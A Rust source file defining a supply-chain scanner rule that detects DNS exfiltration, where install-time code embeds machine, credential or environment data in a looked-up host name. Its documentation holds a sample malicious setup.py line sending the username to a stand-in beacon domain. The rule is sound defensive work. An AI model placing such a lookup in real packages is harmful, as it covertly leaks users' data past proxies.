//! Data leaves as a host name.

use bulkhead_core::{Confidence, Severity};

use super::code::{HOLE, Rule, doing, quoted, say, when};
use crate::archive::Archive;
use crate::behaviour::{Ability, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "dns-exfiltration",
    title: "data leaves as a host name",
    severity: Severity::High,
    confidence: Confidence::High,
    doc: "\
A name is looked up that contains data of the machine: the question itself carries it to whoever runs the name server, past every proxy.

```recipe bad
archive demo-1.0.tar.gz
--- demo-1.0/setup.py
import socket, getpass
socket.gethostbyname(getpass.getuser() + '.beacon.test')
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import socket
def address():
    return socket.gethostbyname('service.example')
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    let telling = Sources::SYSTEM.with(Sources::ENVIRONMENT).with(Sources::CREDENTIAL).with(Sources::PRIVATE);
    for behaviour in doing(archive, Ability::Dns) {
        let detail = behaviour.effect.detail.as_deref().unwrap_or_default();
        // The machine's own name alone is how programs find their address.
        if behaviour.effect.from.any(telling)
            && detail.contains(HOLE)
            && detail.contains('.')
            && unasked(behaviour.context)
        {
            say(
                findings,
                &META,
                behaviour,
                (Severity::High, Confidence::High),
                format!(
                    "data of the machine is part of a name that is looked up {}: {}",
                    when(behaviour.context),
                    quoted(behaviour)
                ),
            );
        }
    }
}
